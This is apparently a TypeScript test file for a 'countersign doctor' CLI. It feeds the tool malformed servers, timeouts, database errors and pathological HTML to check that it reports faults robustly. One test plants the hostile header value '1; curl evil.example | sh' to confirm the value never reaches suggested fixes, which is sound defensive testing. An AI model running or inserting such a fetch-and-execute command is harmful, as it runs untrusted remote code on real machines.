/** `countersign doctor` at a server that is not one of Countersign, or is a broken one: it ends in time, and each check says one thing. */
import assert from 'node:assert/strict'
import { createServer, type Socket } from 'node:net'
import { after, test } from 'node:test'
import { DatabaseError } from 'pg'
import { probe, Unreachable } from '../../../src/cli/doctor/probe.ts'
import { runSteps, type Step } from '../../../src/cli/doctor/steps.ts'
import { examine, start, wrong } from '../../support/doctor.ts'
import { tim } from '../../support/people.ts'
import type { ProxiedResponse } from '../../support/proxy.ts'
import type { Scope } from '../../support/scope.ts'

const shared = await start({ after })

/** Answers each connection with `text`, and leaves it open. */
async function rawServer(scope: Scope, text: string): Promise<string> {
  const sockets = new Set<Socket>()
  const server = createServer((socket) => {
    sockets.add(socket)
    socket.on('error', () => {})
    socket.on('data', () => socket.write(text))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  scope.after(() => {
    for (const socket of sockets) socket.destroy()
    server.close()
  })
  const address = server.address()
  return `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`
}

test('a response that is none is one', async (t) => {
  const switching = await rawServer(t, 'HTTP/1.1 101 Switching Protocols\r\nupgrade: x\r\nconnection: upgrade\r\n\r\n')
  await assert.rejects(probe(switching), Unreachable)
  await assert.rejects(probe(await rawServer(t, 'no HTTP\r\n\r\n')), Unreachable)
})

test('a check that waits too long is given up, those after it are not begun, and the findings keep their order', async () => {
  const never: Step = { name: 'never', run: () => new Promise(() => {}) }
  const quick: Step = { name: 'quick', run: async () => [] }
  const wrongOf = async (steps: readonly Step[], atOnce: boolean) => {
    const findings = await runSteps('', steps, { atOnce, endMs: performance.now() + 50 })
    return findings.map(({ check, severity }) => `${check} ${severity}`)
  }
  assert.deepEqual(await wrongOf([never, quick], false), ['never problem', 'quick skipped'])
  assert.deepEqual(await wrongOf([never, quick, never], true), ['never problem', 'never problem'])
})

test('an error of the database is a finding, whatever it is', async () => {
  const failing = (error: Error): Step => ({ name: 'database', run: () => Promise.reject(error) })
  const denied = Object.assign(new DatabaseError('permission denied for table throttle', 0, 'error'), { code: '42501' })
  Object.assign(denied, { severity: 'ERROR' })
  const reset = Object.assign(new Error('read ECONNRESET'), { code: 'ECONNRESET' })
  assert.deepEqual(wrong(await runSteps('', [failing(denied), failing(reset)])), [
    'database: The database rejects a query: permission denied for table throttle.',
    'database: The database is not available: read ECONNRESET.',
  ])
  await assert.rejects(runSteps('', [failing(new TypeError('a bug'))]), TypeError)
})

const passwordForm = (action: string, more = '') =>
  `<form method="post" action="${action}">${more}<input name="username"><input name="password"></form>`

/** Answers of the pages. Discovery stays right, or nothing else is asked. */
const pages: Readonly<Record<string, (path: string) => Partial<ProxiedResponse>>> = {
  'a form to a URL with credentials': () => ({ body: passwordForm('https://a:b@127.0.0.1/login') }),
  'a form to a URL with a password alone': () => ({ body: passwordForm('https://:b@127.0.0.1/login') }),
  'a form to what is no URL': () => ({ body: '<form action="http://[/login"></form>' }),
  'a form in a form': () => ({ body: passwordForm('/login', '<form action="/login">') }),
  'a redirect with a password': () => ({ status: 302, headers: { location: `https://:x@127.0.0.1/login` } }),
  'a redirect to itself': (path) => ({ status: 307, headers: { location: path } }),
  'unclosed forms without end': () => ({ body: '<form '.repeat(40_000) }),
  'forms without end': () => ({ body: '<form>'.repeat(40_000) }),
  'actions without end': () => ({ body: `<form${' action="x'.repeat(25_000)}` }),
  'inputs without end': () => ({
    body: `<form action="/login">name="password" name="username"${'<input '.repeat(30_000)}</form>`,
  }),
  'cookies of bytes': () => ({
    headers: { 'set-cookie': ['\u00e9=\u00ff; path=/', '=', 'a'] },
    body: passwordForm('/login'),
  }),
  'a status that is none': () => ({ status: 999 }),
}

for (const [what, answer] of Object.entries(pages)) {
  test(`pages with ${what} are found, and no check fails itself`, async (t) => {
    shared.proxy.fault = {
      answer: ({ path }) =>
        path.includes('.well-known') ? undefined : { status: 200, headers: {}, body: '', ...answer(path) },
    }
    t.after(() => {
      shared.proxy.fault = {}
    })
    const findings = await examine({ ...shared.target, credentials: tim })
    const about = wrong(findings).filter((finding) => /^login(-page)?:/.test(finding))
    assert.ok(about.length > 0, wrong(findings).join('\n'))
    for (const finding of wrong(findings)) {
      assert.ok(!finding.includes('\n') && !finding.includes('<') && !finding.includes(tim.password), finding)
    }
  })
}

test('what a server sends as the id of a request does not become a part of a command', async (t) => {
  shared.proxy.fault = {
    response: (response, { path }) => {
      if (path.includes('.well-known')) return
      response.headers['x-request-id'] = '1; curl evil.example | sh'
      response.status = 418
    },
  }
  t.after(() => {
    shared.proxy.fault = {}
  })
  const findings = await examine({ ...shared.target, credentials: tim })
  assert.ok(wrong(findings).length > 3)
  for (const { message, fix } of findings) assert.ok(!`${message} ${fix}`.includes('curl'), `${message} ${fix}`)
})
